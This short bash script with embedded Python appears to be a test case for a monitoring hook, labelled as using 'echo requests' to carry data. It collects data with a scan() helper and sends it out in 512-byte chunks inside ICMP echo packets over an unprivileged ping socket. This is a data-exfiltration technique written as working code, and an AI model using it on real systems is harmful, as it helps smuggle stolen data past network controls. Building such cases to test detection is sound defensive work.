#!/usr/bin/env bash
# technique: echo requests hold the data
# hooks: socket_sendmsg
# sink: private-icmp

. attack.sh
# Only root may open a raw socket; a ping socket is open to all where the system says so.
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sink:
    for start in range(0, 4096, 512):
        sink.sendto(b"\x08\0\0\0\0\0\0\0" + data[start : start + 512], TCP)
PY
